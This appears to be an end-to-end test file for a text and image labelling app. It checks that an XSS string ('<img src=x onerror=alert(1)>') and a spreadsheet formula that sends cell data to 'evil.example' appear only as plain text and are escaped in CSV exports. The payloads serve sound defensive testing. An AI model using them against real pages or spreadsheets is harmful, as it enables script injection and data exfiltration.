// Text from strangers that tries to become markup or a formula: it is shown letter by letter on every screen,
// runs nothing, asks for nothing, and leaves no formula in an export.

import { readFileSync } from "node:fs";
import Papa from "papaparse";
import type { Page } from "playwright";
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from "vitest";
import { openBrowser, serveApp, type OpenBrowser, type ServedApp } from "./support/app";
import { download } from "./support/exported";
import { makeFolder } from "./support/folder";
import { png } from "./support/pictures";
import { addFiles, answer, createProject, goTo, waitForIdle, waitForQuestion } from "./support/steps";

const markup = "<img src=x onerror=alert(1)>";
const formula = '=HYPERLINK("http://evil.example/?"&A1)';
const textColumn = `${markup} of the column`;
const classColumn = `${formula} of the column`;
/** As a file name, where a slash cannot be. */
const fileFormula = '=HYPERLINK("evil.example")';

let app: ServedApp;
let browser: OpenBrowser;
let page: Page;

beforeAll(async () => {
  app = await serveApp();
  browser = await openBrowser();
});
afterAll(async () => {
  await browser.close();
  await app.close();
});
beforeEach(async () => {
  page = await browser.visitAnew(app.url);
});
afterEach(() => {
  // A dialog would be among the noises, as would a picture refused by the content policy.
  browser.assertQuiet();
  expect(browser.foreignRequests(app.url)).toEqual([]);
});

/** That the words stand on the screen, and stand there as words. */
async function expectWords(...words: readonly string[]): Promise<void> {
  for (const one of words) await page.getByText(one).first().waitFor();
  await expectNothingInjected();
}

async function expectNothingInjected(): Promise<void> {
  const injected = await page.evaluate(
    () => document.querySelectorAll('img[src="x"], [onerror], a[href*="evil.example"]').length,
  );
  expect(injected).toBe(0);
}

async function expectSettings(): Promise<void> {
  await goTo(page, "Settings");
  expect(await page.getByLabel("Name", { exact: true }).inputValue()).toBe(markup);
  await page.getByRole("button", { name: `Remove ${markup}` }).waitFor();
  await expectNothingInjected();
}

async function expectProjectListAndDelete(): Promise<void> {
  await page.getByRole("link", { name: "All projects" }).click();
  await page.getByRole("heading", { name: "Your projects" }).waitFor();
  await expectWords(markup, formula);
  await page.getByRole("button", { name: `Delete ${markup}` }).click();
  await page.getByRole("heading", { name: `Delete “${markup}”?` }).waitFor();
  await page.getByRole("button", { name: "Delete project" }).click();
  await expectWords(`Deleted ${markup}.`);
}

test("in a table: text, column, class, definition, guidelines, project", async () => {
  await createProject(page, {
    name: markup,
    kind: "text",
    classes: [
      { name: markup, definition: `${markup} defined` },
      { name: formula, definition: formula },
    ],
    guidelines: `${markup} ${formula}`,
  });
  const rows = Array.from({ length: 60 }, (_, number) =>
    number % 2 ? [`${markup} number ${number} and more words`, formula] : [`${formula} ${number}`, markup],
  );
  const table = Papa.unparse([[textColumn, classColumn], ...rows]);
  await addFiles(page, [{ name: `${markup}.csv`, buffer: Buffer.from(table) }]);
  await page.getByRole("button", { name: "Add these texts" }).waitFor();
  await page.getByText(`The column “${classColumn}” name`).waitFor();
  await expectWords(textColumn, classColumn);
  await expectWords(`${markup}.csv, read as CSV`, `${markup} number 1 and more words`, `${formula} 2`);
  await page.getByRole("checkbox", { name: "Take them as labels" }).check();
  await page.getByRole("button", { name: "Add these texts" }).click();
  await page.getByText("60 added · 60 labels", { exact: true }).waitFor();
  await expectWords(`${markup}.csv`);
  // Twice, for the notes on what was there already.
  const again = Papa.unparse([
    [textColumn, classColumn],
    rows[0]!,
    [markup, ""],
    [formula, ""],
    [`${markup} 2`, ""],
  ]);
  await addFiles(page, [{ name: `${fileFormula}.csv`, buffer: Buffer.from(again) }]);
  await page.getByRole("button", { name: "Add these texts" }).click();
  await expectWords(`${fileFormula}.csv, row 1 is the same as ${markup}.csv, row 1; it went in once.`);
  await waitForIdle(page);

  await waitForQuestion(page);
  await expectWords(markup, formula);
  await page.getByText("Guidelines", { exact: true }).click();
  await expectWords(`${markup} ${formula}`);
  await page.getByRole("button", { name: markup }).first().hover();
  await expectWords(`${markup} defined`);
  await answer(page, "1");
  await page
    .getByRole("navigation", { name: "Answered and coming items" })
    .getByText(markup)
    .first()
    .waitFor();
  await page.keyboard.press("Backspace");
  await page.getByText(`Took back “${markup}” on row`).waitFor();
  await expectNothingInjected();
  await waitForIdle(page);

  await goTo(page, "Train");
  await page.getByText("What is taken for what").waitFor();
  await expectWords(markup, formula);
  await goTo(page, "Export");
  const cells = Papa.parse<string[]>(readFileSync(await download(page, "Table of labels (CSV)"), "utf8"));
  expect(cells.data.flat().filter((cell) => /^[=+@-]/.test(cell))).toEqual([]);
  expect(cells.data.flat()).toContain(`'${formula}`);
  await expectNothingInjected();
  await page.keyboard.press("Control+k");
  await page.getByRole("dialog").waitFor();
  await page.keyboard.type("img");
  await expectNothingInjected();
  await page.keyboard.press("Escape");
  await expectSettings();
  await expectProjectListAndDelete();
});

test("in folders of images: file, folder, class", async () => {
  const number = (at: number) => String(at).padStart(2, "0");
  const folder = makeFolder(markup, [
    ...Array.from(
      { length: 20 },
      (_, at) => [`${markup}/${markup}${number(at)}.png`, png(at * 991)] as const,
    ),
    ...Array.from(
      { length: 20 },
      (_, at) => [`${fileFormula}/${fileFormula}${at}.png`, png(99 + at)] as const,
    ),
    [`${fileFormula}/${markup}.png`, Buffer.from("no image")],
  ]);
  await createProject(page, { name: markup });
  await addFiles(page, folder);
  await page.getByRole("checkbox", { name: "Take them as labels" }).waitFor();
  await expectWords(`${markup}: 41 files`, `${fileFormula} (21), ${markup} (20).`);
  await page.getByRole("checkbox", { name: "Take them as labels" }).check();
  await page.getByRole("button", { name: "Add 41 files" }).click();
  await page.getByText("40 added · 40 labels · 1 left out", { exact: true }).waitFor();
  await expectWords(`${markup}/${fileFormula}/${markup}.png holds text, not an image; it was left out.`);
  await addFiles(page, [
    { name: `${markup}.png`, buffer: png(5000) },
    { name: "b.png", buffer: png(6000) },
  ]);
  await page.getByText("2 added", { exact: true }).waitFor();
  await waitForIdle(page);
  await waitForQuestion(page);
  await expectWords(markup, fileFormula);
  await answer(page, "1");
  await page.keyboard.press("Backspace");
  await page.getByText(`Took back “`).waitFor();
  await expectNothingInjected();
  await goTo(page, "Train");
  await expectWords(markup, fileFormula);
  await expectSettings();
});
